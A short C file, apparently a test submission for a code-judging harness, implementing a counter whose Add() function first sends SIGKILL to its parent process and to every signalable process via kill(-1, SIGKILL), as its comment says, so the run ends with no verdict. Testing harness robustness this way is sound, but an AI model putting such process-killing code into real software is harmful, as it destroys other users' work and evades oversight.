// Kills whoever runs it, so that nobody can say what came of it.
// gets: no verdict
#include <signal.h>
#include <unistd.h>

#include "count.h"

static int count;

void Add() {
  kill(getppid(), SIGKILL);
  kill(-1, SIGKILL);
  ++count;
}
int Count() { return count; }
